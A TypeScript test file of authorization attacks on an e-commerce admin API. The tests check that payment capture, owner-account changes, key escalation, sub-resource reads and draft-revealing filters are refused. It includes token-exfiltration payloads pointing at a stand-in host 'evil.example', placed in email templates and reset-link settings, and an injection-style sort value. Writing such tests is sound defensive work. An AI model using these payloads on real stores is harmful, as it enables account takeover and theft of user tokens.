/**
 * Rights: staff and API keys do what their role or scope does not include.
 */
import { createForSale } from '@carton/cart/testing';
import { bodyOf, callerOf } from '@carton/runtime/testing';
import type { Attack } from '../attack.ts';
import { keyOf, sellIn, startPayment } from '../sale.ts';

const forbidden = { status: 403, code: 'forbidden' };
const unauthenticated = { status: 401, code: 'unauthenticated' };

export const rights: readonly Attack[] = [
  {
    name: 'rights: money with rights to read',
    tries: 'a viewer and keys without payment:write capture, void and refund a payment',
    async run(target, observe) {
      const store = await target.openStore();
      const { order, shopper } = await sellIn(store);
      const path = `/admin/payments/${await startPayment(shopper, order.id)}`;
      const viewer = await target.hire(store, 'viewer');
      const scopes = [['payment:read'], ['order:write', 'payment:read'], ['checkout:write', 'fulfillment:write']];
      const keys = await Promise.all(scopes.map((each) => keyOf(store, target.box.url, each)));
      observe.works('a viewer reads', await viewer.get(path));
      observe.works('a key reads', await (keys[0] ?? viewer).get(path));
      for (const caller of [viewer, ...keys]) {
        for (const step of ['capture', 'void', 'refunds']) {
          observe.refused(step, await caller.post(`${path}/${step}`, {}), forbidden);
        }
        const amount = { amount: 100, currency: 'EUR' };
        const recorded = await caller.post(`/admin/orders/${order.id}/payments`, { method: 'cash', amount });
        observe.refused('a payment by hand', recorded, forbidden);
      }
      const manager = await target.hire(store, 'manager');
      observe.works('a manager captures', await manager.post(`${path}/capture`, {}));
      observe.works('a manager refunds', await manager.post(`${path}/refunds`, {}), 201);
    },
  },
  {
    name: 'rights: the account of the owner',
    tries: 'managers, viewers and keys set the password, the address or the role of an owner, or invite another owner',
    async run(target, observe) {
      const store = await target.openStore();
      const owner = await bodyOf(store.staff.get('/admin/me'));
      const path = `/admin/users/${owner.id}`;
      const person = await target.hire(store, 'viewer');
      observe.works(
        'the owner changes a role',
        await store.staff.patch(`/admin/users/${person.id}`, { role: 'viewer' }),
      );
      const callers = [
        await target.hire(store, 'manager'),
        person,
        await keyOf(store, target.box.url, ['core:write', 'api-key:write', 'member:write']),
      ];
      const changes = [{ role: 'viewer' }, { status: 'disabled' }];
      for (const caller of callers) {
        for (const change of changes) observe.refused('a change', await caller.patch(path, change), forbidden);
        observe.refused('the removal', await caller.delete(path), forbidden);
        observe.refused('the second factor', await caller.delete(`${path}/second-factor`), forbidden);
        const invited = await caller.post('/admin/invites', { email: 'evil@evil.example', role: 'owner' });
        observe.refused('an owner is invited', invited, forbidden);
      }
      // Nobody sets what is the person's own, not even another owner.
      for (const own of [{ password: 'a password of another' }, { email: 'evil@evil.example' }]) {
        const answer = await store.staff.patch(`/admin/users/${person.id}`, own);
        observe.refused(Object.keys(own).join(), answer, { status: 400, code: 'invalid_request' });
      }
      const scopes = ['auth:read', 'auth:write'];
      const [manager = person] = callers;
      const created = await manager.post('/admin/api-keys', { name: 'Staff', kind: 'secret', scopes });
      observe.refused('a manager creates a key that changes staff', created, forbidden);
      const key = await keyOf(store, target.box.url, scopes);
      observe.works('such a key of the owner', await key.get('/admin/users'));
      const raised = await key.patch(`/admin/users/${person.id}`, { role: 'owner' });
      observe.refused('it makes an owner', raised, forbidden);
      const invited = await key.post('/admin/invites', { email: 'evil@evil.example', role: 'owner' });
      observe.refused('it invites an owner', invited, forbidden);
      for (const change of [...changes, { role: 'manager' }]) {
        observe.refused('it changes the owner', await key.patch(path, change), forbidden);
      }
      observe.refused('it removes the owner', await key.delete(path), forbidden);
      const login = await store.visitor().post('/admin/auth/login', { email: store.email, password: store.password });
      observe.works('the owner still logs in', login);
    },
  },
  {
    name: 'rights: keys of keys',
    tries: 'a key makes itself a stronger, a longer or a surviving one, and uses it after its own end',
    async run(target, observe) {
      const store = await target.openStore();
      const { url } = target.box;
      const keeping = ['core:read', 'api-key:read', 'api-key:write'];
      const expiresAt = new Date(Date.now() + 3_600_000).toISOString();
      const parent = await keyOf(store, url, keeping, { expiresAt });
      const child = await keyOf(store, url, ['core:read'], { creator: parent });
      observe.works('the child', await child.get('/admin/store'));
      const body = { name: 'Stronger', kind: 'secret', scopes: ['core:read'] };
      for (const scopes of [['core:write'], ['*'], ['core:read', 'order:read']]) {
        observe.refused('a stronger key', await parent.post('/admin/api-keys', { ...body, scopes }), forbidden);
        const changed = await parent.patch(`/admin/api-keys/${parent.id}`, { scopes });
        observe.refused('itself, stronger', changed, forbidden);
      }
      const longer = await parent.post('/admin/api-keys', { ...body, expiresAt: '2999-01-01T00:00:00Z' });
      observe.refused('a longer key', longer, { status: 400, code: 'invalid_request' });
      const other = await keyOf(store, url, ['core:read']);
      const widened = await parent.patch(`/admin/api-keys/${other.id}`, { scopes: ['core:read', 'api-key:write'] });
      observe.refused('a wider key of others', widened, forbidden);
      const rotated = await parent.post(`/admin/api-keys/${child.id}/rotate`, { scopes: ['*'], expiresAt: null });
      // It takes no body.
      observe.refused('a rotation to more', rotated, { status: 200 });
      observe.is('its scopes', rotated.body.scopes.join(), 'core:read');
      observe.is('its end', rotated.body.expiresAt, expiresAt);
      const again = await parent.post(`/admin/api-keys/${child.id}/rotate`);
      observe.works('a rotation', again);
      const next = callerOf(url, { ...store.visitor().headers, authorization: `Bearer ${again.body.key}` });
      observe.refused('the text of before', await child.get('/admin/store'), unauthenticated);
      observe.works('the new text', await next.get('/admin/store'));
      observe.refused('more rights with it', await next.get('/admin/orders'), forbidden);
      observe.works('the parent is revoked', await store.staff.post(`/admin/api-keys/${parent.id}/revoke`));
      observe.refused('the parent', await parent.get('/admin/store'), unauthenticated);
      observe.refused('its child', await next.get('/admin/store'), unauthenticated);
      observe.works('a key of another', await other.get('/admin/store'));
    },
  },
  {
    name: 'rights: secrets in texts and links',
    tries: 'keys for mails and settings put the tokens of members and staff where the attacker reads them',
    async run(target, observe) {
      const store = await target.openStore();
      const { url } = target.box;
      const mails = await keyOf(store, url, ['notification:read', 'notification:write']);
      const settings = await keyOf(store, url, ['core:read', 'core:write']);
      const text = {
        locale: 'en',
        subject: 'x',
        text: '{{ token }}',
        html: '<img src="https://evil.example/?{{ token }}">',
      };
      const harmless = { texts: [{ ...text, text: 'x', html: null }] };
      const path = (key: string) => `/admin/notification-templates/${key}`;
      observe.works('a text without a secret', await mails.patch(path('order.placed'), harmless));
      for (const key of [
        'member.password_reset_requested',
        'member.registration_requested',
        'member.verification_requested',
        'order.lookup_requested',
        'staff.invited',
        'staff.password_reset_requested',
      ]) {
        const answer = await mails.patch(path(key), { texts: [text] });
        observe.refused(key, answer, { status: 403, code: 'template_reserved' });
      }
      observe.works('a setting without a secret', await settings.patch('/admin/store', { name: 'Store' }));
      const evil = 'https://evil.example/?stolen={token}';
      for (const [group, setting] of [
        ['member', 'passwordResetUrl'],
        ['member', 'verificationUrl'],
        ['order', 'lookupUrl'],
        ['download', 'linkUrl'],
      ] as const) {
        const answer = await settings.patch('/admin/store', { settings: { [group]: { [setting]: evil } } });
        observe.refused(`${group}.${setting}`, answer, forbidden);
      }
      const member = await keyOf(store, url, ['core:read', 'core:write', 'member:write']);
      const link = 'https://shop.example/reset?token={token}';
      const allowed = await member.patch('/admin/store', { settings: { member: { passwordResetUrl: link } } });
      observe.works('with member:write', allowed);
    },
  },
  {
    name: 'rights: parts of a resource',
    tries: 'keys without the right of a resource read and change its parts by paths of their own',
    async run(target, observe) {
      const store = await target.openStore();
      const { url } = target.box;
      const { order, article } = await sellIn(store);
      const all = await keyOf(store, url, ['*']);
      const reader = await keyOf(store, url, ['core:read', 'product:read']);
      const paths = [
        `/admin/orders/${order.id}/timeline`,
        `/admin/orders/${order.id}/shipping-methods`,
        `/admin/orders/${order.id}/downloads`,
        `/admin/variants/${article.variantId}/prices`,
        `/admin/variants/${article.variantId}/price-history`,
        `/admin/stock-items/${article.stockItemId}/movements`,
        '/admin/refunds',
        '/admin/payments',
        '/admin/notifications',
        '/admin/contact-messages',
        '/admin/event-deliveries',
      ];
      for (const path of paths) {
        observe.works(`a key with all: ${path}`, await all.get(path));
        if (path === '/admin/event-deliveries') continue;
        observe.refused(path, await reader.get(path), forbidden);
      }
      const { productId } = article;
      observe.works('the product itself', await reader.get(`/admin/products/${productId}`));
      for (const [method, path, body] of [
        ['POST', `/admin/products/${productId}/variants`, {}],
        ['PUT', `/admin/products/${productId}/media`, { media: [] }],
        ['PUT', `/admin/products/${productId}/related`, { products: [] }],
        ['POST', `/admin/products/${productId}/duplicate`, {}],
        ['POST', `/admin/orders/${order.id}/notes`, { note: 'x' }],
        ['POST', `/admin/orders/${order.id}/invoices`, {}],
      ] as const) {
        observe.refused(`${method} ${path}`, await reader.call(method, path, { body }), forbidden);
      }
    },
  },
  {
    name: 'rights: filters that widen',
    tries: 'shoppers ask public lists for drafts, hidden categories and other states by filters and fields',
    async run(target, observe) {
      const store = await target.openStore();
      await createForSale(store, 1000, { product: { title: 'Open' } });
      const draft = await createForSale(store, 1000, { product: { title: 'Hidden', status: 'draft' } });
      const handle = (await bodyOf(store.staff.get(`/admin/products/${draft.productId}`))).handle;
      const visitor = store.visitor();
      const listed = await visitor.get('/products?limit=100');
      observe.works('the list', listed);
      observe.is('what is listed', listed.body.items.length, 1);
      for (const query of ['q=Hidden', 'sort=title&limit=100', `q=${handle}`]) {
        const answer = await visitor.get(`/products?${query}`);
        observe.refused(query, answer, { status: 200 });
        observe.is(`${query} finds it`, JSON.stringify(answer.body).includes('Hidden'), false);
      }
      const unknown = [
        'status=draft',
        'status=published&status=draft',
        'visibility=all',
        'updatedAfter=2020-01-01T00:00:00Z',
      ];
      for (const query of [
        ...unknown,
        'includeDrafts=true',
        'fields=costPrice',
        'sort=createdAt;drop',
        'filter[status]=draft',
      ]) {
        const answer = await visitor.get(`/products?${query}`);
        const isIgnored = answer.status === 200;
        observe.refused(query, answer, isIgnored ? { status: 200 } : { status: 400, code: 'invalid_request' });
        observe.is(`${query} finds it`, JSON.stringify(answer.body).includes('Hidden'), false);
      }
      const notFound = { status: 404, code: 'not_found' };
      for (const path of [`/products/${handle}`, `/products/${draft.productId}`, `/variants/${draft.variantId}`]) {
        observe.refused(path.replace(draft.productId, ':id'), await visitor.get(path), notFound);
      }
      const bought = await store.shopper().post('/cart/items', { variantId: draft.variantId, quantity: 1 });
      observe.refused('it is bought', bought, { status: 404, code: 'variant_not_found' });
    },
  },
];
